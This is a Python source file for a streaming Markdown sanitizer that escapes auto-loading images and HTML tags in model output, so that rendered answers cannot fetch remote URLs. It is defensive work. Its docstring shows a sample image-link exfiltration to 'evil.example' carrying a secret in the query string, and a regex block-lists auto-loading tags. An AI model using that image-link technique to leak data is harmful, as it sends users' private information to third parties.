"""Text for an editor, which shows Markdown: what would load something by itself is only told.

    markdown = HarmlessMarkdown()
    markdown.more("Look: ![x](https://")     # "Look: &#33;[x](https://"
    markdown.more("evil.example/?q=secret)")
    markdown.rest()
    verbatim("a `line`")                     # a block of code that its text cannot end

A picture that is named by an address is fetched as soon as the answer is drawn, with whatever the
model wrote into the address (rule R7). Its link stays, to be clicked by whoever wants to. Code
stays as it is, ``vec![1]`` too, but only where no reading of Markdown could take it for anything
else: in a block whose fence begins its line, and between backticks of one line of a paragraph that
has neither an odd backtick nor a bracket of HTML before. Source: https://spec.commonmark.org/0.31.2/
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_LOADS = re.compile(
    r"<(?=(?:audio|base|body|embed|frame|iframe|image|img|input|link|meta|object|picture|script"
    r"|source|style|svg|table|td|th|track|video)\b)",
    re.IGNORECASE,
)
_BLOCK = re.compile(r"^([\s>*+\-\d.)]{0,40})<(?=[A-Za-z/!?])")
"""HTML that begins a line reaches as far as it wants, over fences too."""
_TICKS = re.compile(r"`+")
_OPENS = re.compile(r"(`{3,}+)[^`\n]*\n$|(~{3,}+)[^\n]*\n$")
_CLOSES = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*\n?$")
_STRANGE = re.compile(r"[\s>*+\-\d.)]{1,200}(?:`{3}|~{3})")
"""A fence inside of something, which ends with that: from here on nobody knows what is code."""
_MAY_OPEN = re.compile(r"[ \t]{0,3}(?:`|~)")
_MOST_HELD = 400


@dataclass
class HarmlessMarkdown:
    """For one answer; text comes in pieces as the model writes it.

    Attributes:
        _line: of the line that comes, what was told already.
        _wild: in this paragraph a backtick may mean anything.
        _strange: so may everything from here on.
    """

    _held: str = ""
    _line: str = ""
    _fence: str = ""
    _wild: bool = False
    _strange: bool = False

    def more(self, text: str) -> str:
        """What can be told now; a beginning of something is kept until it is known."""
        self._held += text.replace("\r\n", "\n").replace("\r", "\n")
        told = []
        while (end := self._held.find("\n")) >= 0:
            part, self._held = self._held[: end + 1], self._held[end + 1 :]
            told.append(self._part(part))
        if ready := len(self._held) - self._unknown():
            part, self._held = self._held[:ready], self._held[ready:]
            told.append(self._part(part))
        return "".join(told)

    def rest(self) -> str:
        """The end: all that was kept."""
        part, self._held = self._held, ""
        return self._part(part) if part else ""

    def _unknown(self) -> int:
        """How many characters at the end of what is held mean nothing yet."""
        held = self._held
        if len(held) > _MOST_HELD:
            known = len(held.rstrip("!<\\"))
            return len(held) - known if known else 0
        if not self._line and (self._fence or _MAY_OPEN.match(held) or not held.strip()):
            return len(held)  # a fence, perhaps
        if not self._line and _BLOCK.match(held + "<a"):
            return len(held)
        tick, angle = held.find("`"), held.rfind("<")
        if tick >= 0 and not self._fence:
            return len(held) - len(held[:tick].rstrip("\\"))
        if angle >= 0 and len(held) - angle < 12:
            return len(held) - angle
        return len(held) - len(held.rstrip("!\\"))

    def _part(self, part: str) -> str:
        """`part` is of one line, and its end where it has one."""
        begins, line = not self._line, self._line + part
        self._line = "" if part.endswith("\n") else line[:_MOST_HELD]
        if self._fence:
            found = _CLOSES.match(part) if begins else None
            if found and found[1][0] == self._fence[0] and len(found[1]) >= len(self._fence):
                self._fence = ""
            return part
        self._strange = self._strange or _STRANGE.match(line) is not None
        if self._strange:
            self._wild = True
        elif begins and (opened := _OPENS.match(part)):
            self._fence, self._wild = opened[1] or opened[2], False
            return part
        if begins and not part.strip():
            self._wild = self._strange or (self._wild and not part.endswith("\n"))
            return part
        if begins:
            part = _BLOCK.sub(r"\1&lt;", part)
        return self._inline(part)

    def _inline(self, part: str) -> str:
        told, at = [], 0
        while not self._wild and (opened := _TICKS.search(part, at)):
            before = part[at : opened.start()]
            closed = next(
                (one for one in _TICKS.finditer(part, opened.end()) if one[0] == opened[0]), None
            )
            code = part[opened.end() : closed.start()] if closed else ""
            if closed is None or "<" in before or before.endswith("\\") or "|" in code:
                self._wild = True
                break
            told += [_plain(before), part[opened.start() : closed.end()]]
            at = closed.end()
        left = part[at:]
        self._wild = self._wild or "<" in left or "`" in left
        return "".join((*told, _plain(left)))


def _plain(text: str) -> str:
    return _LOADS.sub("&lt;", text.replace("![", "&#33;["))


def verbatim(text: str) -> str:
    """`text` as a block of code, whatever stands in it; what cannot be seen is told as its code."""
    longest = max((len(run) for run in _TICKS.findall(text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}\n{visible(text)}\n{fence}"


def visible(text: str) -> str:
    """What would turn the text round, or cannot be seen, as its code."""
    return "".join(one if one.isprintable() or one == "\n" else ascii(one)[1:-1] for one in text)


def in_one_line(text: str, most: int) -> str:
    """`text` as a title."""
    line = visible(" ".join(text.split()))
    return line if len(line) <= most else line[: most - 1] + "…"
